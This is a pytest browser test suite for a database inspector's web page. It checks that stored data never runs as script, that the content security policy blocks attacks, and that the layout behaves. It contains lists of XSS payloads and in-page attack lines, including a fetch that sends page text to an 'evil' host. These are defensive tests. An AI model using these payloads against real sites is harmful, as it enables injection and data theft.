"""The page of `flagstone inspect` in a headless Chromium: what a person sees and does, and what markup in data can do.

Skipped if no Chromium is installed; on Debian `apt-get install chromium` does.
"""

from __future__ import annotations

import json
import socket
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path

import pytest

import flagstone
from flagstone import Admin, Settings
from kit.browser import CHROMIUM, Browser
from kit.grown_database import grow
from kit.inspected import inspected, place, served

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(CHROMIUM is None, reason="no Chromium is installed: apt-get install chromium"),
]
QUIET = Settings(compactor_options=None, garbage_collector_options=None)

PAYLOADS = [
    "<script>hit()</script>",
    "<img src=x onerror=hit()>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    '"><img src=x onerror=hit()>',
    "'><img src=x onerror=hit()>",
    '" onmouseover="hit()" x="',
    "' onfocus='hit()' autofocus='",
    "</title><script>hit()</script>",
    "</td></tr></table><script>hit()</script>",
    "</pre><img src=x onerror=hit()>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "javascript:hit()",
    "<a href='javascript:hit()'>x</a>",
    "<style>*{display:none}</style>",
    "<base href='http://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<form action=http://evil.example><input autofocus onfocus=hit()>",
    "<script\x00>hit()</script>",
    "<img\x00src=x onerror=hit()>",
    "\u202egnp.<img src=x onerror=hit()>",
    "\ufeff<script>hit()</script>",
    "＜script＞hit()＜/script＞",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "${hit()}",
    "{{constructor.constructor('hit()')()}}",
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "]]><script>hit()</script>",
    "data: x\n\nevent: live\ndata: <script>hit()</script>\n\n",
]


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with Browser() as found:
        found.before_pages(
            "window.hits = 0; window.hit = () => { window.hits++; }; "
            "window.alert = window.confirm = window.prompt = window.hit;"
        )
        yield found


@pytest.fixture(autouse=True)
def nothing_is_wrong(browser: Browser) -> Iterator[None]:
    browser.problems.clear()
    browser.requests.clear()
    yield
    assert browser.problems == []


def looked_at(browser: Browser, address: str) -> None:
    browser.open(address)
    browser.until("document.querySelector('#sizes table') && document.querySelector('#history svg')")


def harmless(browser: Browser, address: str) -> None:
    """No markup of the data became an element, no script of it ran, and nothing was asked of another site."""
    assert browser.run("window.hits") == 0
    foreign = "img, script, iframe, style, base, meta, link, form:not(#search), a, object, embed"
    assert browser.run(f"document.querySelectorAll('body :is({foreign})').length") == 0
    names = "[...document.querySelectorAll('*')].flatMap((each) => each.getAttributeNames())"
    assert browser.run(f"{names}.filter((name) => name.startsWith('on'))") == []
    assert [each for each in browser.requests if not each.startswith(address)] == []


@pytest.mark.parametrize("number", range(len(PAYLOADS)))
def test_markup_in_keys_values_and_names_is_only_text(tmp_path: Path, browser: Browser, number: int) -> None:
    payload = PAYLOADS[number]
    data, name = payload.encode(), payload.replace("/", "").replace("\0", "")
    # The page has no merge operator, so it shows the operands.
    with flagstone.open(
        tmp_path / "db", settings=QUIET, merge_operator=flagstone.operators.Concatenate()
    ) as db:
        db.put(data, data)
        db.merge(data + b"3", data)
        db.put(data + b"2", json.dumps({payload: payload}).encode())
        items = db.collection("items", key=(str,), value={"text": str})
        items[payload] = {"text": payload}
        db.flush()
        db.checkpoint(name=name)
    Admin(tmp_path / "db").clone(tmp_path / "copy")
    with inspected(place(tmp_path / "copy")) as inspection, served(inspection) as address:
        browser.size(1440, 900)
        looked_at(browser, address)
        browser.run(
            "document.querySelectorAll('#trees .bar').forEach((bar) => { bar.focus(); "
            "bar.dispatchEvent(new PointerEvent('pointermove', {clientX: 9})); })"
        )
        harmless(browser, address)
        browser.run(
            "document.getElementById('system').checked = true; document.getElementById('search').requestSubmit()"
        )
        browser.until("document.querySelectorAll('#rows button').length >= 4")
        harmless(browser, address)
        links = browser.run("document.querySelectorAll('#rows button').length")
        for link in range(links):
            browser.run(
                "document.getElementById('key').replaceChildren(); "
                f"document.querySelectorAll('#rows button')[{link}].click()"
            )
            browser.until("document.querySelector('#key table')")
            harmless(browser, address)
        shown = browser.run("document.getElementById('rows').textContent")
        assert payload in shown or data.hex() in shown or any(not letter.isprintable() for letter in payload)
        # A refused request shows what was refused.
        browser.run(
            f"document.getElementById('prefix').value = {json.dumps('0x' + payload)}; "
            "document.getElementById('search').requestSubmit()"
        )
        browser.until("!document.getElementById('problem').hidden")
        harmless(browser, address)
    # The browser reports the refused request and the end of the server; anything else is a finding.
    browser.problems[:] = [each for each in browser.problems if "Failed to load resource" not in each]


@pytest.mark.parametrize(
    "attack",
    [
        "eval('hit()')",
        "new Function('hit()')()",
        "setTimeout('hit()', 0)",
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=hit()>')",
        "document.body.innerHTML = '<img src=x onerror=hit()>'",
        "document.body.append(Object.assign(document.createElement('script'), {textContent: 'hit()'}))",
        "document.body.append(Object.assign(document.createElement('script'), {src: 'http://{evil}/x.js'}))",
        "document.body.append(Object.assign(document.createElement('img'), {src: 'http://{evil}/x.png'}))",
        "document.body.append(Object.assign(document.createElement('iframe'), {src: 'http://{evil}/'}))",
        "document.body.append(Object.assign(document.createElement('base'), {href: 'http://{evil}/'}))",
        "fetch('http://{evil}/?' + document.body.textContent)",
        "new WebSocket('ws://{evil}/')",
        "navigator.sendBeacon('http://{evil}/', 'x')",
        "new Worker(URL.createObjectURL(new Blob(['hit()'])))",
        "document.write('<script>hit()</scr' + 'ipt>')",
        "document.body.setAttribute('onclick', 'hit()'); document.body.click()",
    ],
)
def test_the_policy_stops_what_a_script_in_the_page_could_try(
    tmp_path: Path, browser: Browser, attack: str
) -> None:
    """If markup of the data did become an element or a script after all, the browser itself would stop it."""
    with flagstone.open(tmp_path / "db", settings=QUIET) as db:
        db.put(b"k", b"v")
    with (
        socket.create_server(("127.0.0.1", 0)) as evil,
        inspected(place(tmp_path / "db")) as inspection,
        served(inspection) as address,
    ):
        attack = attack.replace("{evil}", f"127.0.0.1:{evil.getsockname()[1]}")
        looked_at(browser, address)
        browser.run(
            "document.addEventListener('securitypolicyviolation', () => { "
            "window.violations = (window.violations ?? 0) + 1; })"
        )
        browser.run(
            f"(() => {{ const it = document.createElement('meta'); it.id = 'done'; "
            f"try {{ Promise.resolve({attack if ';' not in attack else '0'}).catch(() => 0); "
            f"{attack if ';' in attack else ''} }} catch (error) {{ window.violations = 1; }} return 1; }})()"
        )
        browser.until("window.violations || window.hits")
        assert browser.run("window.hits") == 0
        assert received(evil) == b""
    browser.problems.clear()  # the violations that this test is about


def received(server: socket.socket) -> bytes:
    """What a browser has sent to a server. It may open a connection ahead of a request that its policy then stops."""
    server.setblocking(False)
    data = b""
    while True:
        try:
            connection, _ = server.accept()
        except BlockingIOError:
            return data
        with connection:
            connection.settimeout(0.2)
            with suppress(TimeoutError):
                data += connection.recv(4096)


def test_a_page_of_another_site_may_not_frame_or_read_it(tmp_path: Path, browser: Browser) -> None:
    with flagstone.open(tmp_path / "db", settings=QUIET) as db:
        db.put(b"k", b"v")
    with inspected(place(tmp_path / "db")) as inspection, served(inspection) as address:
        other = address.replace("127.0.0.1", "localhost")  # another origin for the browser
        browser.open("about:blank")
        browser.until("location.href === 'about:blank'")
        loading = (
            "((tag, src) => new Promise((done) => { const it = document.createElement(tag); "
            "it.onload = () => done(1); it.onerror = () => done(0); it.src = src; document.body.append(it); }))"
        )
        for script in (
            f"fetch({json.dumps(other)} + 'api/state').then(() => 1, () => 0)",
            f"{loading}('img', {json.dumps(other)} + 'icon.svg')",
            f"{loading}('script', {json.dumps(other)} + 'api/state')",
        ):
            assert browser.run(script) == 0
    browser.problems.clear()  # the refusals that this test is about


@pytest.fixture(scope="module")
def grown(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return grow(tmp_path_factory.mktemp("grown"), manifests=300)


@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
@pytest.mark.parametrize("width", [1440, 390])
def test_the_page_fits_the_window_and_follows_its_colours(
    grown: Path, browser: Browser, width: int, dark: bool
) -> None:
    with inspected(place(grown)) as inspection, served(inspection) as address:
        browser.size(width, 844, dark=dark)
        looked_at(browser, address)
        assert browser.run("document.querySelectorAll('#trees .bar').length") >= 11
        assert browser.run("document.documentElement.scrollWidth") <= width
        lightness = browser.run("Number(getComputedStyle(document.body).backgroundColor.match(/\\d+/)[0])")
        assert (lightness < 64) if dark else (lightness > 192)
        assert browser.run("[...document.querySelectorAll('#trees text')].every((t) => t.getBBox().x >= -1)")


def test_keys_on_a_phone_are_not_broken_into_pieces(grown: Path, browser: Browser) -> None:
    with inspected(place(grown)) as inspection, served(inspection) as address:
        browser.size(390, 844)
        looked_at(browser, address)
        browser.run("document.getElementById('search').requestSubmit()")
        browser.until("document.querySelectorAll('#rows button').length >= 3")
        assert browser.run("document.querySelector('#rows button').getBoundingClientRect().height") < 40
        assert browser.run("document.documentElement.scrollWidth") <= 390
        assert browser.run("document.getElementById('hint').hidden")


def test_the_scrubber_shows_former_manifests_and_comes_back(grown: Path, browser: Browser) -> None:
    with inspected(place(grown)) as inspection, served(inspection) as address:
        browser.size(1440, 900)
        looked_at(browser, address)
        browser.run(
            "const s = document.getElementById('scrubber'); s.value = 3; s.dispatchEvent(new Event('input'))"
        )
        browser.until("document.getElementById('h-tree').textContent.startsWith('Tree at manifest 3,')")
        assert browser.run("document.querySelectorAll('#trees .bar').length") < 11
        browser.run("document.getElementById('now').click()")
        browser.until("document.getElementById('h-tree').textContent === 'Tree'")
        assert browser.run("document.querySelectorAll('#trees .bar').length") >= 11


def test_a_write_appears_on_an_open_page(tmp_path: Path, browser: Browser) -> None:
    with flagstone.open(tmp_path / "db", settings=QUIET) as db:
        db.put(b"k", b"v")
        with inspected(place(tmp_path / "db")) as inspection, served(inspection) as address:
            looked_at(browser, address)
            browser.until("document.getElementById('live-text').textContent.startsWith('live')")
            before = browser.run("document.querySelectorAll('#trees .bar').length")
            db.put(b"k2", b"v")
            db.flush()
            browser.until(f"document.querySelectorAll('#trees .bar').length === {before} + 1")
            browser.run("document.querySelector('#trees .bar').dispatchEvent(new MouseEvent('click'))")
            browser.until("document.querySelectorAll('#rows button').length >= 1")
